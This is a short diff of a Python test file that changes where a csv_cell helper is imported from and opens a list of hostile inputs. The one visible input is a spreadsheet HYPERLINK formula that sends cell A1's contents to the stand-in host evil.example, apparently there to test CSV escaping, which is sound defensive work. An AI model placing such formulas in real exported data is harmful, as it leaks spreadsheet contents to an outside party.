@@ -16,7 +16,8 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from cma_research.reporting.files import csv_cell, save_table
+from cma_research.core.text import csv_cell
+from cma_research.reporting.files import save_table
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
